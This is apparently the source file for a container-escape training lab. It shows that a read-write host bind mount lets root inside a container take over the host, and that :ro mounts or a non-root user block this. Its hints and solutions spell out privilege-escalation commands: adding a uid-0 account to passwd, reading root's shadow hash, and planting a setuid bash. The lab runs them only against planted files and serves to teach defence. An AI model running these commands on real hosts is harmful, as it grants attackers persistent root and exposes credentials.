// Escape lab: a host directory bind-mounted read-write (the seeds' `-v /:/host`) lets root in
// the container edit the host's files as the host's root. Containment: the session's own
// host directory stands in for the host's `/` (host/etc/passwd, host/etc/shadow, host/tmp
// planted by the lab, root-owned); the real `/` is never mounted. The same attack fails in
// a container with the mount `:ro` (writes) and in one running as a non-root `--user`
// (writes, and reading a root-only file).
import { FLAG_LINE } from '../shared/flag-check.ts';
import type { HostFileInfo, LabDefinition } from '../../server/lab-kit.ts';

const HOST = { source: 'host', target: '/host' };
const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
export const NON_ROOT_USER = '1000:1000';

export const PLANTED_PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'alice:x:1000:1000:Alice:/home/alice:/bin/bash',
  'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
  '',
].join('\n');

/** Accounts other than `root` with user id 0 in a passwd text: a second root. */
export function extraRootAccounts(passwd: string): string[] {
  return passwd
    .split('\n')
    .map((line) => line.split(':'))
    .filter((f) => f.length >= 7 && f[0] !== 'root' && f[0] !== '' && f[2]?.trim() === '0')
    .map((f) => f[0] ?? '');
}

/** The password field of root's line in a shadow text. */
export function rootHash(shadow: string): string | undefined {
  return shadow
    .split('\n')
    .map((line) => line.split(':'))
    .find((f) => f[0] === 'root')?.[1];
}

/** A setuid file the host's root owns: whoever runs it runs as root. */
export function isSetuidRoot(file: HostFileInfo): boolean {
  return !file.isDirectory && file.uid === 0 && (file.mode & 0o4000) !== 0;
}

export const escapeHostMountLab: LabDefinition = {
  id: 'escape-host-mount',
  title: "Escape: the host's files, mounted",
  topic: 'escapes',
  summary:
    'A host directory mounted read-write into a container is the host: as root inside, add a second root account, read the password hashes and leave a setuid root shell. Then watch :ro and a non-root user stop you.',
  minutes: 15,
  learned: [
    'A host directory mounted read-write is the host: root inside can add accounts and plant setuid shells.',
    'Mount host paths :ro, narrowly, and run as a non-root user.',
  ],
  lesson: 'escape-host-mount.md',
  // Side by side, with the inspector, shows what the differing flags change.
  sideBySide: ['host-root', 'read-only'],
  escape: true,
  // Root in the container edits only what is bound in: this session's own directory.
  workshop: 'own-files',
  hostFiles: [
    { path: 'host', mode: 0o755 },
    { path: 'host/etc', mode: 0o755 },
    { path: 'host/etc/passwd', content: PLANTED_PASSWD, mode: 0o644 },
    {
      path: 'host/etc/shadow',
      content: 'root:{{token}}:19700:0:99999:7:::\nalice:!:19700:0:99999:7:::\n',
      mode: 0o600,
    },
    { path: 'host/tmp', mode: 0o1777 },
  ],
  containers: [
    {
      name: 'host-root',
      title: 'host-root (-v host:/host)',
      hostname: 'host-root',
      sessionDirMounts: [HOST],
      ...SMALL,
    },
    {
      name: 'read-only',
      title: 'read-only (:ro)',
      hostname: 'read-only',
      sessionDirMounts: [{ ...HOST, readOnly: true }],
      ...SMALL,
    },
    {
      name: 'non-root',
      title: `non-root (--user ${NON_ROOT_USER})`,
      hostname: 'non-root',
      user: NON_ROOT_USER,
      sessionDirMounts: [HOST],
      ...SMALL,
    },
  ],
  exercises: [
    {
      id: 'second-root',
      title: 'Add a root account to the host',
      goal: "Give the host a second root account: a user other than root with user id 0 in the host's /etc/passwd (/host/etc/passwd in your containers).",
      hints: [
        'What makes an account root is not its name but the third field of its /etc/passwd line, the user id. Who may write the host file?',
        'Only the host-root terminal can write it: :ro refuses every write, and the non-root user is not the owner of a 0644 root file.',
        "In the host-root terminal: echo 'toor:x:0:0:second root:/root:/bin/bash' >> /host/etc/passwd",
      ],
      check: async (ctx) => {
        const passwd = await ctx.sessionFiles.read('host/etc/passwd');
        const info = (await ctx.sessionFiles.list('host/etc')).find((f) => f.name === 'passwd');
        const extra = extraRootAccounts(passwd);
        if (extra.length === 0) {
          return {
            passed: false,
            reason:
              passwd === PLANTED_PASSWD
                ? "The host's /etc/passwd is as the lab planted it: only root has uid 0."
                : "The host's /etc/passwd changed, but no account other than root has uid 0.",
            hint: passwd === PLANTED_PASSWD ? 0 : 2,
          };
        }
        const when = info === undefined ? '' : ` at ${new Date(info.mtimeMs).toISOString()}`;
        return {
          passed: true,
          reason: `On the host, /etc/passwd (still owned by uid ${info?.uid ?? 0}, changed${when}) now has ${extra.join(', ')} with uid 0: a second root, written by root in a container through a read-write bind mount.`,
        };
      },
      cheat: [
        // Its own /etc/passwd is the container's, not the host's.
        { terminal: 'host-root', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd" },
        // The same attack against the two hardened containers.
        { terminal: 'read-only', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /host/etc/passwd" },
        { terminal: 'non-root', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /host/etc/passwd" },
      ],
      solution: [
        {
          terminal: 'host-root',
          input:
            "grep -q '^toor:' /host/etc/passwd || echo 'toor:x:0:0:second root:/root:/bin/bash' >> /host/etc/passwd; tail -n 2 /host/etc/passwd",
        },
      ],
    },
    {
      id: 'read-shadow',
      title: "Read the host's password hashes",
      goal: "Read root's password hash from the host's /etc/shadow (mode 0600, root only) and submit it.",
      answer: { label: "root's hash", placeholder: 'the second field of root’s line' },
      hints: [
        '/etc/shadow is readable by root only. Which of your terminals is root, and does :ro stop reading?',
        'The non-root user gets "Permission denied". Root in host-root or read-only can read it: a read-only mount stops writes, not reads.',
        'In the host-root (or read-only) terminal: cut -d: -f2 /host/etc/shadow | head -1',
      ],
      check: async (ctx, answer) => {
        const truth = rootHash(await ctx.sessionFiles.read('host/etc/shadow'));
        if (answer !== undefined && answer.trim() === truth) {
          return {
            passed: true,
            reason:
              "Right. Root in a container reads the host's root-only files through any mount of them, read-only or not: uid 0 inside is uid 0 outside unless a user namespace maps it. Offline, an attacker now cracks these hashes at leisure.",
          };
        }
        return {
          passed: false,
          reason: "That is not root's hash in the host's shadow file.",
          hint: 0,
        };
      },
      // The non-root user cannot read it; the container's own shadow file is not the host's.
      cheat: [
        {
          terminal: 'non-root',
          input: 'cut -d: -f2 /host/etc/shadow | head -1',
          capture: FLAG_LINE,
        },
        {
          terminal: 'host-root',
          input: 'cut -d: -f2 /etc/shadow | head -1',
          capture: FLAG_LINE,
        },
      ],
      solution: [
        {
          terminal: 'host-root',
          input: 'cut -d: -f2 /host/etc/shadow | head -1',
          capture: FLAG_LINE,
        },
      ],
    },
    {
      id: 'setuid-shell',
      title: 'Leave a setuid root shell on the host',
      goal: "Leave a copy of a shell in the host's /tmp (/host/tmp) that any host user could run as root: owned by root, with the setuid bit.",
      hints: [
        'A setuid program runs as its owner. What does the host see as the owner of a file created by root in a container?',
        'Copy /bin/bash into /host/tmp and set the setuid bit (chmod u+s or 4755), from a terminal that is root and can write there.',
        'In the host-root terminal: cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash && ls -l /host/tmp',
      ],
      check: async (ctx) => {
        const files = (await ctx.sessionFiles.list('host/tmp')).filter((f) => !f.isDirectory);
        const setuidRoot = files.filter(isSetuidRoot);
        for (const file of setuidRoot) {
          const head = (await ctx.sessionFiles.read(`host/tmp/${file.name}`)).slice(0, 4);
          if (head === '\u007fELF') {
            return {
              passed: true,
              reason: `On the host, /tmp/${file.name} is owned by uid 0 with mode ${file.mode.toString(8)}: any local user who runs it (bash needs -p) is root. Nothing in the container needed a capability beyond the default: the mount was enough.`,
            };
          }
        }
        if (setuidRoot.length > 0) {
          return {
            passed: false,
            reason: `${setuidRoot.map((f) => f.name).join(', ')} is setuid root, but not a program (no ELF header).`,
            hint: 1,
          };
        }
        const setuidOther = files.find((f) => (f.mode & 0o4000) !== 0);
        if (setuidOther !== undefined) {
          return {
            passed: false,
            reason: `${setuidOther.name} is setuid, but owned by uid ${setuidOther.uid}: it would run as that user, not as root.`,
            hint: 0,
          };
        }
        return {
          passed: false,
          reason:
            files.length === 0
              ? "The host's /tmp is empty."
              : `Nothing in the host's /tmp has the setuid bit and root as owner (${files.map((f) => f.name).join(', ')}).`,
          hint: files.length === 0 ? 0 : 1,
        };
      },
      cheat: [
        // A setuid root file that is not a program.
        {
          terminal: 'host-root',
          input: 'touch /host/tmp/not-a-shell; chmod 4755 /host/tmp/not-a-shell',
        },
        // The attack from the hardened containers: EROFS, and a setuid file owned by 1000.
        {
          terminal: 'read-only',
          input: 'cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash',
        },
        {
          terminal: 'non-root',
          input:
            'cp /bin/bash /host/tmp/userbash && chmod 4755 /host/tmp/userbash; ls -ln /host/tmp',
        },
      ],
      solution: [
        {
          terminal: 'host-root',
          input:
            'cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash && ls -ln /host/tmp',
        },
      ],
    },
  ],
};
